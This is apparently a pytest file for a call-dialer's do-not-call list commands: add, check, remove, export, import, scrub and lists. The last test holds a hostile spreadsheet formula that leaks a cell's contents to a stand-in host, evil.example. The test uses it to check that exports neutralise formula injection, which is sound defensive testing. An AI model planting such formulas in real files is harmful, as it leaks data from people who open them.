"""``dialer dnc ...`` against the test database: add, check, remove, export, import, scrub, lists."""

from __future__ import annotations

import asyncio
import csv
from pathlib import Path

import asyncpg
import pytest

from dialer.cli import main


@pytest.fixture
def dnc_env(database_url: str, redis_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("DIALER_DATABASE_URL", database_url)
    monkeypatch.setenv("DIALER_REDIS_URL", redis_url)
    monkeypatch.setenv("DIALER_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("DIALER_CONFIG", raising=False)
    return tmp_path


async def dialer(*argv: str) -> int:
    return await asyncio.to_thread(main, ["dnc", *argv])


async def test_add_check_remove_and_export_a_number(
    dnc_env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert (
        await dialer(
            "add",
            "06 12 34 56 78",
            "--region",
            "FR",
            "--reason",
            "asked twice",
            "--actor",
            "olga",
            "--expires",
            "2099-01-01",
        )
        == 0
    )
    assert "added +33612345678 to internal until 2099-01-01" in capsys.readouterr().out
    assert await dialer("check", "+33612345678", "--campaign", "4") == 0
    out = capsys.readouterr().out
    assert "+33612345678: BLOCKED by internal (campaign 4)" in out
    assert "asked twice - added by olga" in out
    target = dnc_env / "internal.csv"
    assert await dialer("export", "--list", "internal", "-o", str(target)) == 0
    rows = list(csv.DictReader(target.read_text().splitlines()))
    assert [(r["number"], r["added_by"], r["reason"]) for r in rows] == [
        ("'+33612345678", "olga", "asked twice")  # a spreadsheet would run +336... as a formula
    ]
    assert rows[0]["expires_at"].startswith("2099-01-01")
    assert await dialer("remove", "+33612345678", "--reason", "mistake", "--actor", "olga") == 0
    capsys.readouterr()
    assert await dialer("check", "+33612345678") == 0
    assert "+33612345678: not blocked" in capsys.readouterr().out


async def test_an_invalid_number_is_refused_with_the_reason(
    dnc_env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert await dialer("add", "12", "--region", "FR", "--reason", "x") == 1
    err = capsys.readouterr().err
    assert "'12' is not a valid phone number: too short" in err
    assert await dialer("add", "+33612345678", "--list", "nope", "--reason", "x") == 1
    assert "no DNC list named 'nope'" in capsys.readouterr().err


async def test_import_then_scrub_a_campaign(
    dnc_env: Path, db_pool: asyncpg.Pool, capsys: pytest.CaptureFixture[str]
) -> None:
    camp = await db_pool.fetchval(
        "INSERT INTO campaigns (name, trunk_template) VALUES ('x', 'PJSIP/{number}@t') RETURNING id"
    )
    await db_pool.execute(
        "INSERT INTO leads (campaign_id, phone_e164) VALUES ($1, '+14155550123'), ($1, '+14155550199')", camp
    )
    source = dnc_env / "usdnc.txt"
    source.write_text("4155550123\n4155550124\nbad\n")
    assert await dialer("import", str(source), "--list", "usdnc", "--kind", "national", "--region", "US") == 0
    out = capsys.readouterr().out
    assert "imported 2 numbers into usdnc (national) from 3 lines, 1 invalid" in out
    target = dnc_env / "usdnc.csv"
    assert await dialer("export", "--list", "usdnc", "-o", str(target)) == 0
    assert "wrote 0 entries and 2 registry numbers of usdnc" in capsys.readouterr().err
    exported = list(csv.reader(target.read_text().splitlines()))
    assert [r[0] for r in exported[1:]] == ["'+14155550123", "'+14155550124"]
    assert exported[1][3] == "registry file"
    assert await dialer("scrub", str(camp), "--show") == 0
    out = capsys.readouterr().out
    assert f"campaign {camp}: checked 2 dialable leads, removed 1 on DNC (usdnc: 1)" in out
    assert "+14155550123" in out
    assert await dialer("lists") == 0
    assert "usdnc" in capsys.readouterr().out


async def test_the_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    dnc_env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"see")'
    assert await dialer("add", "+33612345678", "--reason", hostile, "--actor", "@admin") == 0
    target = dnc_env / "internal.csv"
    assert await dialer("export", "--list", "internal", "-o", str(target)) == 0
    row = next(csv.DictReader(target.read_text().splitlines()))
    assert (row["number"], row["added_by"], row["reason"]) == ("'+33612345678", "'@admin", "'" + hostile)
